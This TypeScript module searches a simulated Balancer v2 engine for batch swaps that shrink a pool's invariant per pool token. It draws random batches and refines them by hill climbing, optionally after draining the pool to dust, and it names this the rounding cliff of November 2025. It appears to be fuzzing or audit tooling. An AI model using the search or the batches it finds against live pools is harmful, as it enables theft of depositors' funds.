/**
 * Looks for batches of swaps that leave a pool token worth less: random restarts, then hill climbing
 * on the exact engine.
 *
 * Where the pool's own token can be swapped, a batch may first take out nearly everything for pool
 * tokens that it does not have yet. The search drives the pool down to a few units that way, because
 * there one unit of rounding is a large part of a balance; what it finds in those depths is the
 * rounding cliff of November 2025.
 *
 * @module
 */
import { Revert, v2 } from '@balancer/pools';
import type { Stream } from '../random/stream.ts';

/** One step of a batch: an exact amount out, raw units; tokens are places in `assets`. */
export interface AttackStep {
  readonly assetIn: number;
  readonly assetOut: number;
  readonly amount: bigint;
}

export interface AttackOptions {
  readonly state: v2.WorldState;
  readonly pool: v2.PoolId;
  /** Who sends the batch. */
  readonly sender: string;
  readonly stream: Stream;
  /** Batches that may be tried. */
  readonly budget: number;
  /** Steps that come first in every batch, such as the exits of a known attack. */
  readonly prefix?: readonly AttackStep[];
  /** Most steps that the search adds after the prefix and its own exits; default 6. */
  readonly stepsMax?: number;
}

export interface AttackResult {
  /** The best batch, prefix included; empty when nothing lowers the invariant. */
  readonly steps: readonly AttackStep[];
  readonly assets: readonly string[];
  /** Steps of the pool's changes that lower the invariant per pool token, and by which part. */
  readonly drops: readonly v2.InvariantDrop[];
  /** Part of the invariant per pool token that the batch takes in all. */
  readonly fraction: number;
  readonly tried: number;
}

/** Tries of small changes without gain after which the search starts anew. */
const PATIENCE = 24;
/** An exit leaves a hundredth; pools refuse to be emptied at once. */
const EXIT_SHARE = [99n, 100n] as const;
const EXIT_STEPS_MAX = 40;

/** A step before its amount is known: what it leaves of the token that it takes. */
interface Gene {
  readonly assetIn: number;
  readonly assetOut: number;
  readonly leave: bigint;
}

interface Candidate {
  readonly steps: readonly AttackStep[];
  readonly fraction: number;
  readonly drops: readonly v2.InvariantDrop[];
}

const NOTHING: Candidate = { steps: [], fraction: 0, drops: [] };

/** Searches until the budget is used up. */
export function searchAttack(options: AttackOptions): AttackResult {
  const { state, pool, stream, budget, prefix = [], stepsMax = 6 } = options;
  const assets = v2.getPoolTokens(state, pool).tokens;
  const own = assets.indexOf(v2.getPool(state, pool).address);
  const search = new Search(options, assets, own);
  let best = NOTHING;
  while (search.tried < budget) {
    const start = prefix.length > 0 || own < 0 ? prefix : search.exits();
    let genes = search.randomGenes(1 + stream.below(stepsMax));
    let here = search.evaluate(start, genes);
    let idle = 0;
    // Without a gain in sight more of the same neighbourhood is wasted.
    while (idle < (here.fraction === 0 ? 4 : PATIENCE) && search.tried < budget) {
      const changedGenes = search.mutate(genes, stepsMax);
      const changed = search.evaluate(start, changedGenes);
      idle = changed.fraction > here.fraction ? 0 : idle + 1;
      if (changed.fraction >= here.fraction) [here, genes] = [changed, changedGenes];
    }
    if (here.fraction > best.fraction) best = here;
  }
  return { ...best, assets, tried: search.tried };
}

class Search {
  tried = 0;
  readonly #options: AttackOptions;
  readonly #assets: readonly string[];
  readonly #own: number;
  readonly #balances: readonly bigint[];

  constructor(options: AttackOptions, assets: readonly string[], own: number) {
    this.#options = options;
    this.#assets = assets;
    this.#own = own;
    this.#balances = v2.getPoolTokens(options.state, options.pool).balances;
  }

  /** Adds the genes as steps, each on the balances that those before it leave. */
  evaluate(start: readonly AttackStep[], genes: readonly Gene[]): Candidate {
    let candidate = NOTHING;
    const steps = [...start];
    let balances = this.#balancesAfter(steps);
    for (const { assetIn, assetOut, leave } of genes) {
      const amount = (balances?.[assetOut] ?? 0n) - leave;
      if (amount < 1n) continue;
      steps.push({ assetIn, assetOut, amount });
      const report = this.#query(steps);
      if (report === null) {
        steps.pop();
        continue;
      }
      balances = this.#balances.map((balance, i) => balance + report.result.assetDeltas[i]!);
      const drops = v2.invariantDrop(report);
      const kept = drops.reduce((product, { fraction }) => product * (1 - fraction), 1);
      candidate = { steps: [...steps], drops, fraction: 1 - kept };
    }
    return candidate.fraction > 0 ? candidate : NOTHING;
  }

  /** Exits of all tokens in turn, each of nearly everything, down to a random number of units. */
  exits(): AttackStep[] {
    const { stream } = this.#options;
    const left = [...this.#balances];
    const dust = 10n ** BigInt(2 + stream.below(5)) * BigInt(1 + stream.below(9));
    const steps: AttackStep[] = [];
    for (let i = 0; i < EXIT_STEPS_MAX; i++) {
      const tokens = left.flatMap((balance, token) =>
        token !== this.#own && balance > dust ? [token] : [],
      );
      if (tokens.length === 0) break;
      const assetOut = tokens[i % tokens.length]!;
      const most = (left[assetOut]! * EXIT_SHARE[0]) / EXIT_SHARE[1];
      const amount = left[assetOut]! - most < dust ? left[assetOut]! - dust : most;
      left[assetOut] = left[assetOut]! - amount;
      steps.push({ assetIn: this.#own, assetOut, amount });
    }
    return steps;
  }

  randomGenes(count: number): Gene[] {
    return Array.from({ length: count }, () => this.#randomGene());
  }

  /** One small change: another rest, a step more or less, tokens turned. */
  mutate(genes: readonly Gene[], stepsMax: number): Gene[] {
    const { stream } = this.#options;
    const changed = [...genes];
    const place = stream.below(genes.length);
    const gene = genes[place]!;
    const draw = stream.uniform();
    if (draw < 0.25 && genes.length < stepsMax) changed.splice(place, 0, this.#randomGene());
    else if (draw < 0.35 && genes.length > 1) changed.splice(place, 1);
    else if (draw < 0.45)
      changed[place] = { ...gene, assetIn: gene.assetOut, assetOut: gene.assetIn };
    else if (draw < 0.8)
      changed[place] = { ...gene, leave: atLeastOne(gene.leave + BigInt(stream.below(9) - 4)) };
    else changed[place] = this.#randomGene();
    return changed;
  }

  /** Between two tokens other than the pool's; the rest is of any order of magnitude. */
  #randomGene(): Gene {
    const { stream } = this.#options;
    const tokens = this.#assets.flatMap((_asset, i) => (i === this.#own ? [] : [i]));
    const assetIn = tokens[stream.below(tokens.length)]!;
    const others = tokens.filter((token) => token !== assetIn);
    const assetOut = others[stream.below(others.length)]!;
    // Units are drawn by their digits, so that one left is as likely as thousands; half the time few.
    const digits =
      stream.uniform() * (stream.uniform() < 0.5 ? 2 : this.#balances[assetOut]!.toString().length);
    return { assetIn, assetOut, leave: BigInt(Math.max(1, Math.floor(10 ** digits))) };
  }

  #balancesAfter(steps: readonly AttackStep[]): readonly bigint[] | null {
    if (steps.length === 0) return this.#balances;
    const report = this.#query(steps);
    return report === null
      ? null
      : this.#balances.map((balance, i) => balance + report.result.assetDeltas[i]!);
  }

  /** The batch with its changes of the pool; null when it reverts. */
  #query(steps: readonly AttackStep[]): v2.TraceReport<v2.QueryBatchSwapOperation> | null {
    this.tried++;
    const { state, pool, sender } = this.#options;
    const operation: v2.QueryBatchSwapOperation = {
      do: 'queryBatchSwap',
      from: sender,
      kind: 'GIVEN_OUT',
      assets: this.#assets,
      steps: steps.map((step) => ({ pool, ...step })),
    };
    try {
      return v2.trace(state, operation);
    } catch (error) {
      if (error instanceof Revert) return null;
      throw error;
    }
  }
}

function atLeastOne(amount: bigint): bigint {
  return amount < 1n ? 1n : amount;
}
